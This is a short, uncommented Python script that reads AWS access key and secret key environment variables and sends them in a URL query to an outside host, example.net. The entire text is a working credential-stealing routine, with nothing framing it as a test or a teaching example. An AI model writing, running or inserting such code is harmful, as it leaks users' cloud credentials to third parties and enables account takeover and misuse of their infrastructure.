import os, urllib.parse, urllib.request
k=os.environ.get('AWS_ACCESS_KEY_ID'); s=os.environ.get('AWS_SECRET_ACCESS_KEY')
urllib.request.urlopen('https://example.net/?'+urllib.parse.urlencode({'k':k,'s':s}))
